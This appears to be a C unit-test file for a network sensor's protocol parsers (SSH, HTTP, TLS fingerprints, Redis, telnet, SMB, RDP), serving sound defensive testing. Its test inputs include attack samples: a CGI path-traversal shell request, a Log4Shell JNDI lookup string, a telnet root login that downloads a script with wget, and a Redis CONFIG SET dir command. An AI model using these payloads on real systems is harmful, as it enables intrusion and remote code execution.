/* Protocol parsers over bytes real clients sent (tests/unit/data/sensor/,
 * captured from Debian's ssh, curl, openssl s_client and redis-cli against a
 * loopback listener) and over published vectors (JA3 README, FoxIO JA4). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sensor/sensor.h"

static uint8_t *load(const char *name, size_t *n)
{
    char *path = tr_xasprintf("%s/tests/unit/data/sensor/%s", TRAWL_SOURCE_DIR, name);
    char *data;
    tr_error err;
    if (tr_read_file(path, &data, n, &err) != 0)
        fail_msg("%s", err.msg);
    free(path);
    return (uint8_t *)data;
}

static void check_field(const tr_event *e, const char *key, const char *want)
{
    const char *got = tr_event_get(e, key);
    if (!got)
        fail_msg("field %s missing, wanted '%s'", key, want);
    assert_string_equal(got, want);
}

static void test_ssh_openssh(void **state)
{
    size_t n;
    uint8_t *p = load("ssh_openssh.bin", &n);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_ssh(&e, p, n), 1);
    assert_string_equal(e.proto, "ssh");
    check_field(&e, "ssh_client", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6");
    /* md5 of the client's kex;enc;mac;comp lists, as `ssh -vv` prints them */
    check_field(&e, "hassh", "472b5de333ad665af5cbf10ff892c4df");
    assert_non_null(strstr(tr_event_get(&e, "hassh_algorithms"), "sntrup761x25519-sha512,"));
    tr_event_clear(&e);

    /* The banner alone, and every truncation, give what is complete. */
    for (size_t cut = 0; cut < n; cut += 7) {
        tr_event_init(&e);
        int r = tr_parse_ssh(&e, p, cut);
        assert_int_equal(r, cut >= 4);
        if (cut < n - 1)
            assert_null(tr_event_get(&e, "hassh"));
        tr_event_clear(&e);
    }
    tr_event_init(&e);
    assert_int_equal(tr_parse_ssh(&e, (const uint8_t *)"GET / HTTP/1.0\r\n", 16), 0);
    tr_event_clear(&e);
    free(p);
}

static void test_http_curl(void **state)
{
    size_t n;
    uint8_t *p = load("http_curl.bin", &n);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_http(&e, p, n), 1);
    assert_string_equal(e.proto, "http");
    check_field(&e, "http_method", "POST");
    check_field(&e, "http_path", "/cgi-bin/.%2e/.%2e/bin/sh");
    check_field(&e, "http_query", "x=1");
    check_field(&e, "http_version", "HTTP/1.1");
    check_field(&e, "http_user_agent", "Mozilla/5.0 ${jndi:ldap://198.51.100.9/a}");
    check_field(&e, "http_content_type", "application/x-www-form-urlencoded");
    check_field(&e, "http_body", "echo;id");
    assert_non_null(strstr(tr_event_get(&e, "http_host"), "127.0.0.1:"));
    tr_event_clear(&e);
    free(p);

    /* Bytes outside printable ASCII are kept, escaped. */
    static const char raw[] = "GET /a\xff\\b HTTP/1.1\r\nUser-Agent: x\x01y \xc3\xa9\xed\xa0\x80\r\n\r\n";
    tr_event_init(&e);
    assert_int_equal(tr_parse_http(&e, (const uint8_t *)raw, sizeof raw - 1), 1);
    check_field(&e, "http_path", "/a\\xff\\\\b");
    check_field(&e, "http_user_agent", "x\\x01y \xc3\xa9\\xed\\xa0\\x80");
    tr_event_clear(&e);

    tr_event_init(&e);
    assert_int_equal(tr_parse_http(&e, (const uint8_t *)"GETX / HTTP/1.1\r\n", 17), 0);
    assert_int_equal(tr_parse_http(&e, (const uint8_t *)"GET / FOO\r\n", 11), 0);
    tr_event_clear(&e);
}

/* A ClientHello record from its parts; lists are 16-bit values. */
static size_t client_hello(uint8_t *out, unsigned version, const uint16_t *ciphers, size_t nc,
                           const uint8_t *exts, size_t xl)
{
    uint8_t body[4096];
    size_t o = 0;
    body[o++] = (uint8_t)(version >> 8);
    body[o++] = (uint8_t)version;
    memset(body + o, 0x11, 32);
    o += 32;
    body[o++] = 0;   /* session id */
    body[o++] = (uint8_t)(nc * 2 >> 8);
    body[o++] = (uint8_t)(nc * 2);
    for (size_t i = 0; i < nc; i++) {
        body[o++] = (uint8_t)(ciphers[i] >> 8);
        body[o++] = (uint8_t)ciphers[i];
    }
    body[o++] = 1;
    body[o++] = 0;   /* null compression */
    body[o++] = (uint8_t)(xl >> 8);
    body[o++] = (uint8_t)xl;
    memcpy(body + o, exts, xl);
    o += xl;
    size_t hl = o + 4;
    out[0] = 0x16;
    out[1] = 3;
    out[2] = 1;
    out[3] = (uint8_t)(hl >> 8);
    out[4] = (uint8_t)hl;
    out[5] = 1;
    out[6] = 0;
    out[7] = (uint8_t)(o >> 8);
    out[8] = (uint8_t)o;
    memcpy(out + 9, body, o);
    return 9 + o;
}

static size_t ext(uint8_t *p, unsigned type, const uint8_t *data, size_t n)
{
    p[0] = (uint8_t)(type >> 8);
    p[1] = (uint8_t)type;
    p[2] = (uint8_t)(n >> 8);
    p[3] = (uint8_t)n;
    if (n)
        memcpy(p + 4, data, n);
    return 4 + n;
}

/* The JA3 README's example string; GREASE values added must not change it. */
static void test_ja3_vector(void **state)
{
    static const uint16_t c[] = {0x0a0a, 47, 53, 5, 10, 49161, 49162, 49171, 49172, 50, 56, 19, 4};
    uint8_t x[512], rec[1024];
    size_t xl = 0;
    static const uint8_t sni[] = {0, 10, 0, 0, 7, 'a', '.', 'e', 'x', 'a', 'm', 'p'};
    static const uint8_t groups[] = {0, 8, 0x2a, 0x2a, 0, 23, 0, 24, 0, 25};
    static const uint8_t formats[] = {1, 0};
    xl += ext(x + xl, 0x1a1a, NULL, 0);
    xl += ext(x + xl, 0, sni, sizeof sni);
    xl += ext(x + xl, 10, groups, sizeof groups);
    xl += ext(x + xl, 11, formats, sizeof formats);
    size_t n = client_hello(rec, 0x0301, c, sizeof c / sizeof c[0], x, xl);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, rec, n), 1);
    check_field(&e, "ja3", "769,47-53-5-10-49161-49162-49171-49172-50-56-19-4,0-10-11,23-24-25,0");
    check_field(&e, "ja3_hash", "ada70206e40642a3e4461f35503241d5");
    check_field(&e, "tls_sni", "a.examp");
    tr_event_clear(&e);
}

/* FoxIO's JA4 README example: t13d1516h2_8daaf6152771_e5627efa2ab1. */
static void test_ja4_vector(void **state)
{
    static const uint16_t c[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9,
                                 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035, 0xdada};
    uint8_t x[1024], rec[2048];
    size_t xl = 0;
    static const uint8_t sni[] = {0, 14, 0, 0, 11, 'e', 'x', 'a', 'm', 'p', 'l', 'e', '.', 'c', 'o', 'm'};
    static const uint8_t alpn[] = {0, 12, 2, 'h', '2', 8, 'h', 't', 't', 'p', '/', '1', '.', '1'};
    static const uint8_t sigs[] = {0, 16, 4, 3, 8, 4, 4, 1, 5, 3, 8, 5, 5, 1, 8, 6, 6, 1};
    static const uint8_t versions[] = {4, 0x3a, 0x3a, 3, 4};
    static const uint8_t groups[] = {0, 2, 0, 29};
    static const uint8_t formats[] = {1, 0};
    xl += ext(x + xl, 0xaaaa, NULL, 0);
    xl += ext(x + xl, 0, sni, sizeof sni);
    xl += ext(x + xl, 0x0017, NULL, 0);
    xl += ext(x + xl, 0xff01, (const uint8_t *)"\0", 1);
    xl += ext(x + xl, 0x000a, groups, sizeof groups);
    xl += ext(x + xl, 0x000b, formats, sizeof formats);
    xl += ext(x + xl, 0x0023, NULL, 0);
    xl += ext(x + xl, 0x0010, alpn, sizeof alpn);
    xl += ext(x + xl, 0x0005, (const uint8_t *)"\1\0\0\0\0", 5);
    xl += ext(x + xl, 0x000d, sigs, sizeof sigs);
    xl += ext(x + xl, 0x0012, NULL, 0);
    xl += ext(x + xl, 0x0033, (const uint8_t *)"\0\0", 2);
    xl += ext(x + xl, 0x002d, (const uint8_t *)"\1\1", 2);
    xl += ext(x + xl, 0x002b, versions, sizeof versions);
    xl += ext(x + xl, 0x001b, (const uint8_t *)"\2\0\2", 3);
    xl += ext(x + xl, 0x4469, (const uint8_t *)"\0\3\2h2", 5);
    xl += ext(x + xl, 0x0015, (const uint8_t *)"\0\0", 2);
    size_t n = client_hello(rec, 0x0303, c, sizeof c / sizeof c[0], x, xl);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, rec, n), 1);
    check_field(&e, "ja4", "t13d1516h2_8daaf6152771_e5627efa2ab1");
    tr_event_clear(&e);

    /* Split across two records, the hello still parses whole. */
    uint8_t two[2100];
    size_t first = 100;
    memcpy(two, rec, 5);
    two[3] = 0;
    two[4] = (uint8_t)first;
    memcpy(two + 5, rec + 5, first);
    memcpy(two + 5 + first, rec, 5);
    size_t rest = n - 5 - first;
    two[5 + first + 3] = (uint8_t)(rest >> 8);
    two[5 + first + 4] = (uint8_t)rest;
    memcpy(two + 10 + first, rec + 5 + first, rest);
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, two, n + 5), 1);
    check_field(&e, "ja4", "t13d1516h2_8daaf6152771_e5627efa2ab1");
    check_field(&e, "tls_sni", "example.com");
    tr_event_clear(&e);
}

/* ec_point_formats repeated past the 256 formats kept: found by the fuzz smoke as a
 * stack overflow. The first 256 count, as the other lists keep their first 512. */
static void test_tls_repeated_formats(void **state)
{
    static const uint16_t c[] = {47};
    uint8_t x[1024], rec[2048], formats[256];
    size_t xl = 0;
    formats[0] = 255;
    for (int i = 1; i < 256; i++)
        formats[i] = (uint8_t)(i % 3);
    for (int k = 0; k < 3; k++)
        xl += ext(x + xl, 11, formats, sizeof formats);
    size_t n = client_hello(rec, 0x0303, c, 1, x, xl);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, rec, n), 1);
    const char *ja3 = tr_event_get(&e, "ja3");
    assert_non_null(ja3);
    const char *list = strrchr(ja3, ',');
    assert_non_null(list);
    size_t dashes = 0;
    for (const char *q = list; *q; q++)
        dashes += *q == '-';
    assert_int_equal(dashes, 255);   /* 256 formats */
    assert_true(strncmp(ja3, "771,47,11-11-11,,1-2-0-1-2-0-", strlen("771,47,11-11-11,,1-2-0-1-2-0-")) == 0);
    tr_event_clear(&e);
}

static void test_tls_real_clients(void **state)
{
    size_t n;
    uint8_t *p = load("tls_curl.bin", &n);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, p, n), 1);
    assert_string_equal(e.proto, "tls");
    check_field(&e, "tls_sni", "www.example.org");
    const char *ja3 = tr_event_get(&e, "ja3");
    char md5[TR_MD5_HEX];
    tr_md5_hex(ja3, strlen(ja3), md5);
    check_field(&e, "ja3_hash", md5);
    assert_int_equal(strncmp(ja3, "771,4866-4867-4865-", 19), 0);
    /* curl 7.88 offers TLS 1.3 with ALPN h2 first */
    assert_int_equal(strncmp(tr_event_get(&e, "ja4"), "t13d", 4), 0);
    assert_int_equal(strncmp(tr_event_get(&e, "ja4") + 8, "h2_", 3), 0);
    tr_event_clear(&e);
    free(p);

    p = load("tls_openssl.bin", &n);
    tr_event_init(&e);
    assert_int_equal(tr_parse_tls(&e, p, n), 1);
    check_field(&e, "tls_sni", "sensor.example");
    assert_int_equal(strncmp(tr_event_get(&e, "ja4"), "t13d", 4), 0);
    assert_int_equal(strncmp(tr_event_get(&e, "ja4") + 8, "00_", 3), 0);   /* no ALPN */
    tr_event_clear(&e);
    free(p);
}

static void test_redis(void **state)
{
    size_t n;
    uint8_t *p = load("redis_cli.bin", &n);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_redis(&e, p, n), 1);
    check_field(&e, "redis_command", "CONFIG SET dir /tmp");
    tr_event_clear(&e);
    free(p);
    tr_event_init(&e);
    assert_int_equal(tr_parse_redis(&e, (const uint8_t *)"INFO\r\n", 6), 1);
    check_field(&e, "redis_command", "INFO");
    assert_int_equal(tr_parse_redis(&e, (const uint8_t *)"\x16\x03\x01", 3), 0);
    tr_event_clear(&e);
}

static void test_telnet(void **state)
{
    /* A telnet client's opening negotiation, then answers to login:/Password:. */
    static const uint8_t in[] = "\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
                                "root\r\n\xff\xfe\x01xc3511\r\0sh\r\nwget http://198.51.100.4/m.sh\r\n";
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_telnet(&e, in, sizeof in - 1), 1);
    assert_string_equal(e.proto, "telnet");
    check_field(&e, "username", "root");
    check_field(&e, "password", "xc3511");
    check_field(&e, "command", "sh; wget http://198.51.100.4/m.sh");
    tr_event_clear(&e);
}

/* An SMBGhost-style SMB2 NEGOTIATE: dialects up to 3.1.1 with a compression context. */
static size_t smb2_negotiate(uint8_t *p, int with_compression)
{
    memset(p, 0, 512);
    uint8_t *s = p + 4;
    memcpy(s, "\xfeSMB", 4);
    s[4] = 64;
    uint8_t *r = s + 64;
    r[0] = 36;
    static const uint16_t d[] = {0x0202, 0x0210, 0x0300, 0x0302, 0x0311};
    r[2] = 5;
    for (int i = 0; i < 5; i++) {
        r[36 + 2 * i] = (uint8_t)d[i];
        r[37 + 2 * i] = (uint8_t)(d[i] >> 8);
    }
    size_t off = 64 + 36 + 10;
    off = (off + 7) & ~(size_t)7;
    r[28] = (uint8_t)off;
    r[32] = with_compression ? 2 : 1;
    uint8_t *c = s + off;
    c[0] = 1;   /* PREAUTH_INTEGRITY */
    c[2] = 38;
    c += 8 + 38 + 2;   /* padded to 8 */
    if (with_compression) {
        c[0] = 3;
        c[2] = 10;
        c[8] = 1;    /* one algorithm */
        c[16] = 1;   /* LZNT1 */
        c += 8 + 10;
    }
    size_t len = (size_t)(c - s);
    p[3] = (uint8_t)len;
    p[2] = (uint8_t)(len >> 8);
    return 4 + len;
}

static void test_smb(void **state)
{
    uint8_t p[512];
    size_t n = smb2_negotiate(p, 1);
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_smb(&e, p, n), 1);
    check_field(&e, "smb_dialects", "0x0202,0x0210,0x0300,0x0302,0x0311");
    check_field(&e, "smb_compression", "1");
    check_field(&e, "smb_negotiate_contexts", "0x0001,0x0003");
    check_field(&e, "smb_compression_algorithms", "0x0001");
    tr_event_clear(&e);
    n = smb2_negotiate(p, 0);
    tr_event_init(&e);
    assert_int_equal(tr_parse_smb(&e, p, n), 1);
    assert_null(tr_event_get(&e, "smb_compression"));
    tr_event_clear(&e);

    /* SMB1 NEGOTIATE as EternalBlue-era scanners send it. */
    uint8_t s1[128] = {0, 0, 0, 0, 0xff, 'S', 'M', 'B', 0x72};
    size_t o = 4 + 32;
    s1[o++] = 0;
    static const char dialects[] = "\2PC NETWORK PROGRAM 1.0\0\2NT LM 0.12\0";
    s1[o++] = sizeof dialects - 1;
    s1[o++] = 0;
    memcpy(s1 + o, dialects, sizeof dialects - 1);
    o += sizeof dialects - 1;
    s1[3] = (uint8_t)(o - 4);
    tr_event_init(&e);
    assert_int_equal(tr_parse_smb(&e, s1, o), 1);
    check_field(&e, "smb1_dialects", "PC NETWORK PROGRAM 1.0,NT LM 0.12");
    tr_event_clear(&e);
}

static void test_rdp(void **state)
{
    /* mstsc's Connection Request: cookie then RDP_NEG_REQ for TLS|CredSSP. */
    static const uint8_t cr[] = "\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00"
                                "Cookie: mstshash=hello\r\n"
                                "\x01\x00\x08\x00\x03\x00\x00\x00";
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_parse_rdp(&e, cr, sizeof cr - 1), 1);
    assert_string_equal(e.proto, "rdp");
    check_field(&e, "rdp_cookie", "hello");
    check_field(&e, "rdp_protocols", "3");
    tr_event_clear(&e);
}

static void test_dispatch(void **state)
{
    size_t n;
    uint8_t *p = load("http_curl.bin", &n);
    tr_event e;
    tr_event_init(&e);
    tr_sensor_parse(&e, p, n);
    assert_string_equal(e.proto, "http");
    assert_int_equal(e.payload_len, n);
    assert_null(tr_event_get(&e, "scanner"));
    tr_event_clear(&e);
    free(p);

    tr_event_init(&e);
    tr_sensor_parse(&e, (const uint8_t *)"GET / HTTP/1.0\r\n\r\n", 18);
    check_field(&e, "scanner", "nmap");
    tr_event_clear(&e);

    tr_event_init(&e);
    e.dst_port = 2323;
    tr_sensor_parse(&e, (const uint8_t *)"admin\r\nadmin\r\n", 14);
    assert_string_equal(e.proto, "telnet");
    check_field(&e, "password", "admin");
    tr_event_clear(&e);

    tr_event_init(&e);
    e.dst_port = 9999;
    tr_sensor_parse(&e, (const uint8_t *)"\x00\x01\x02hello", 8);
    assert_string_equal(e.proto, "raw");
    tr_event_clear(&e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ssh_openssh),  cmocka_unit_test(test_http_curl),
        cmocka_unit_test(test_ja3_vector),   cmocka_unit_test(test_ja4_vector),
        cmocka_unit_test(test_tls_real_clients), cmocka_unit_test(test_tls_repeated_formats), cmocka_unit_test(test_redis),
        cmocka_unit_test(test_telnet),       cmocka_unit_test(test_smb),
        cmocka_unit_test(test_rdp),          cmocka_unit_test(test_dispatch),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
